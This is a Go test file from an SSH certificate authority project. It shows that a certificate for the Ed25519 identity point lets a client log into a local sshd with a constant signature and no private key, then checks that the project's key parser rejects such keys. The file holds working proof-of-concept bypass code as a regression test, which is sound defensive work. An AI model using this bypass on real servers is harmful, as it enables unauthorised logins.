package ca_test

import (
	"crypto/ed25519"
	"crypto/rand"
	"encoding/pem"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"golang.org/x/crypto/ssh"

	"github.com/sshca/sshca/ca"
	"github.com/sshca/sshca/internal/testenv"
)

// TestIdentityPointCertificateLogsIntoSSHD shows that the attack the Ed25519 checks stop is
// real: a user certificate for the identity point, signed by a CA that real sshd trusts, logs
// in with the constant signature (R = identity, S = 0) and no private key at all. Then it
// shows that ParsePublicKey refuses that key, so sshca never signs such a certificate.
func TestIdentityPointCertificateLogsIntoSSHD(t *testing.T) {
	dir := t.TempDir()
	_, caPriv, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	caSigner, err := ssh.NewSignerFromKey(caPriv)
	if err != nil {
		t.Fatal(err)
	}
	_, hostPriv, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	hostPEM, err := ssh.MarshalPrivateKey(hostPriv, "")
	if err != nil {
		t.Fatal(err)
	}
	hostSigner, err := ssh.NewSignerFromKey(hostPriv)
	if err != nil {
		t.Fatal(err)
	}
	hostKeyPath := filepath.Join(dir, "host_key")
	caPath := filepath.Join(dir, "user_ca.pub")
	if err := os.WriteFile(hostKeyPath, pem.EncodeToMemory(hostPEM), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(caPath, ssh.MarshalAuthorizedKey(caSigner.PublicKey()), 0o644); err != nil {
		t.Fatal(err)
	}
	sshd := testenv.StartSSHD(t, testenv.SSHDConfig{HostKey: hostKeyPath, TrustedUserCAKeys: caPath, Principals: []string{"victim"}})

	weak := identityKey(t)
	now := time.Now()
	cert := &ssh.Certificate{Key: weak, Serial: 1, CertType: ssh.UserCert, KeyId: "victim@example.com#1",
		ValidPrincipals: []string{"victim"},
		ValidAfter:      uint64(now.Add(-time.Minute).Unix()), ValidBefore: uint64(now.Add(10 * time.Minute).Unix()),
		Permissions: ssh.Permissions{Extensions: map[string]string{"permit-pty": ""}}}
	if err := cert.SignCert(rand.Reader, caSigner); err != nil {
		t.Fatal(err)
	}
	// Anyone who sees this certificate (inventory, audit log, a shared screen) can do this.
	certSigner, err := ssh.NewCertSigner(cert, constantSigner{weak})
	if err != nil {
		t.Fatal(err)
	}
	client, err := ssh.Dial("tcp", sshd.Addr, &ssh.ClientConfig{
		User:            sshd.User,
		Auth:            []ssh.AuthMethod{ssh.PublicKeys(certSigner)},
		HostKeyCallback: ssh.FixedHostKey(hostSigner.PublicKey()),
		Timeout:         10 * time.Second,
	})
	if err != nil {
		t.Fatalf("sshd 9.2 refused the identity-point certificate (the attack did not work here): %v\nsshd log:\n%s", err, sshd.Log())
	}
	defer client.Close()
	sess, err := client.NewSession()
	if err != nil {
		t.Fatal(err)
	}
	out, err := sess.CombinedOutput("echo logged-in-without-a-private-key")
	if err != nil || !strings.Contains(string(out), "logged-in-without-a-private-key") {
		t.Fatalf("session: %v %q", err, out)
	}
	if !strings.Contains(sshd.Log(), "Accepted publickey for "+sshd.User) {
		t.Errorf("sshd log does not show the login:\n%s", sshd.Log())
	}
	t.Logf("sshd accepted the identity-point certificate with the constant signature; log:\n%s", lastLines(sshd.Log(), 3))

	_, err = ca.ParsePublicKey(string(ssh.MarshalAuthorizedKey(weak)))
	if err == nil || ca.KindOf(err) != ca.KindInvalid || !strings.Contains(err.Error(), "small order") {
		t.Fatalf("ParsePublicKey(identity point) = %v, want invalid: small order", err)
	}
	if err := ca.CheckPublicKey(weak); err == nil {
		t.Fatal("CheckPublicKey accepts the identity point")
	}
}

func lastLines(s string, n int) string {
	lines := strings.Split(strings.TrimSpace(s), "\n")
	if len(lines) > n {
		lines = lines[len(lines)-n:]
	}
	return strings.Join(lines, "\n")
}
